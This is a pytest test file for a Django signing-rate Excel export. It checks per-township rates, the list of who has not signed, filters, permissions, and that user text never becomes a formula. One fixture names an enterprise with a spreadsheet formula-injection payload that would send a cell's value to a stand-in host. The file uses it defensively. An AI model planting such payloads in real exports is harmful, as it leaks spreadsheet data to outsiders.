"""The signing-rate workbook: rates per child node for letters and pledges, who has not signed, the
coverage page's filters, the EXPORT right, and user text that stays text."""

from __future__ import annotations

import io
from datetime import date
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accountability import services
from accountability.models import LetterTemplate
from safetyops.evidence import signing
from tests.accountability.factories import county_template
from tests.campaigns.factories import travel
from tests.conftest import World
from tests.orgs.factories import EnterpriseFactory

pytestmark = pytest.mark.django_db
URL = "accountability:coverage_export"


def _issue(world: World, units: list[Any], **fields: Any) -> LetterTemplate:
    template = county_template(world, **fields)
    services.template_address(actor=world.county_admin, template=template, units=units)
    services.template_issue(actor=world.county_admin, template=template)
    return template


def _sign(letter: Any, user: Any) -> None:
    services.letter_sign(actor=user, letter=letter, typed_name=signing.name_of(user), confirmed=True)


@pytest.fixture
def march(world: World) -> World:
    """Issued 1 March 2026 (7 days to sign): letters to both towns (town A signed), pledges to
    ent_a (signed), ent_b and an enterprise whose name is a formula (both in town B)."""
    with travel(date(2026, 3, 1)):
        letters = _issue(world, [world.town_a, world.town_b])
        _sign(letters.letters.get(node=world.town_a), world.leader_a)
        formula = EnterpriseFactory(name='=HYPERLINK("http://x/?a="&B4,"点我")', node=world.town_b)
        pledges = _issue(world, [world.ent_a, world.ent_b, formula], kind="pledge", title="-2026年度承诺书")
        _sign(pledges.letters.get(enterprise=world.ent_a), world.enterprise_a)
    return world


def _workbook(client: Any, user: Any, **params: Any) -> Any:
    client.force_login(user)
    with travel(date(2026, 3, 20)):
        response = client.get(reverse(URL), params)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [row for row in sheet.iter_rows(min_row=3, values_only=True)]


def test_the_rates_per_child_node_and_kind(client: Any, march: World) -> None:
    book = _workbook(client, march.county_admin)
    assert book.sheetnames == ["签署率", "未签署名单"]
    rows = _rows(book["签署率"])
    assert ("东城镇", "目标责任书", 1, 1, 0, 0, 100) in rows
    assert ("西山镇", "目标责任书", 1, 0, 1, 1, 0) in rows
    assert ("合计", "目标责任书", 2, 1, 1, 1, 50) in rows
    assert ("东城镇", "安全承诺书", 1, 1, 0, 0, 100) in rows
    assert ("西山镇", "安全承诺书", 2, 0, 2, 2, 0) in rows
    assert ("合计", "安全承诺书", 3, 1, 2, 2, 33.3) in rows


def test_the_list_of_who_has_not_signed(client: Any, march: World) -> None:
    rows = _rows(_workbook(client, march.county_admin)["未签署名单"])
    assert len(rows) == 3
    units = {row[1]: row for row in rows}
    assert set(units) == {"西山镇", "西山建设工程有限公司", '=HYPERLINK("http://x/?a="&B4,"点我")'}
    town_b = units["西山镇"]
    assert town_b[2] == "西山镇" and town_b[3] == "目标责任书" and town_b[5] == "安平县"
    assert town_b[7].date() == date(2026, 3, 8) and town_b[8] == 12  # due 8 March, 12 days late on the 20th


def test_user_text_never_becomes_a_formula(client: Any, march: World) -> None:
    client.force_login(march.county_admin)
    with travel(date(2026, 3, 20)):
        response = client.get(reverse(URL))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in book["未签署名单"].iter_rows(min_row=3) for cell in row]
    formula = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
    title = [cell for cell in cells if cell.value == "-2026年度承诺书"]
    assert formula and title
    assert all(cell.data_type == "s" for cell in formula + title)
    assert all(cell.quotePrefix for cell in formula + title)


def test_the_filters_mirror_the_coverage_page(client: Any, march: World) -> None:
    pledges = _rows(_workbook(client, march.county_admin, kind="pledge")["签署率"])
    assert {row[1] for row in pledges} == {"安全承诺书"}
    last_year = _workbook(client, march.county_admin, year="2025")
    assert ("合计", "目标责任书", 0, 0, 0, 0, None) in _rows(last_year["签署率"])
    assert _rows(last_year["未签署名单"]) == []
    nonsense = _rows(_workbook(client, march.county_admin, year="abc", kind="x", campaign="y")["签署率"])
    assert ("合计", "安全承诺书", 3, 1, 2, 2, 33.3) in nonsense
    no_campaign = _rows(_workbook(client, march.county_admin, campaign="999999")["未签署名单"])
    assert no_campaign == []


def test_a_township_sees_its_own_part(client: Any, march: World) -> None:
    book = _workbook(client, march.leader_a)
    rows = _rows(book["签署率"])
    # ent_a sits in 东村; the letter town A itself signed is not part of what it answers for.
    assert not any(row[0] == "本级" and row[1] == "目标责任书" and row[2] for row in rows)
    assert ("东村", "安全承诺书", 1, 1, 0, 0, 100) in rows
    assert not any("西山" in str(row[0]) for row in rows)
    assert _rows(book["未签署名单"]) == []


@pytest.mark.parametrize("who", ["enterprise_a", "nobody"])
def test_without_the_export_right_it_is_403(client: Any, march: World, who: str) -> None:
    client.force_login(march.users()[who])
    assert client.get(reverse(URL)).status_code == 403
